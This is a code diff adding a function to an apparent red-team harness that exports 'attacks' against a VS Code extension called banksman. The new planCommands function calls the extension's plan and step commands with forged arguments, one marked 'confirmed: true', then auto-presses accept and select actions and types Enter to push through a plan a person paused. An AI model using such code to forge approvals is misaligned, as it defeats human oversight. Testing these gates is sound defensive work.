@@ -112,6 +112,21 @@ async function ownCommands({ requestId, report }) {
   report(`ran ${commands.length} commands`);
 }
 
+/** A plan that a person paused: every command on plans, with its id and its row, and what they open is pressed. */
+async function planCommands({ requestId, report }) {
+  const commands = (await vscode.commands.getCommands(false)).filter((id) => /^banksman\..*(?:plan|step)s?$/i.test(id));
+  for (const command of commands) {
+    for (const args of [[], [requestId], [{ id: requestId, number: 1 }], [{ kind: 'plan', id: requestId, confirmed: true }]]) {
+      report(`${command}(${describe(args)}): ${await run(command, args)}`);
+      for (const press of ['workbench.action.acceptSelectedQuickOpenItem', 'notification.acceptPrimaryAction', 'list.select'])
+        await run(press, []);
+      await run('type', [{ text: '\n' }]);
+    }
+    await run('workbench.action.closeQuickOpen', []);
+  }
+  report(`ran ${commands.length} commands`);
+}
+
 /** Requires the installed module and calls what it exports; then a fresh copy of it, with a context that pretends to be a test. */
 async function callExports({ requestId, report }) {
   const extension = vscode.extensions.getExtension('banksman.banksman');
@@ -277,4 +292,4 @@ function speak(file, requestId) {
   });
 }
 
-exports.attacks = { takeService, loosenSettings, acceptCard, decoy, pressEverything, ownCommands, callExports, invokeTool };
+exports.attacks = { takeService, loosenSettings, acceptCard, decoy, pressEverything, ownCommands, planCommands, callExports, invokeTool };
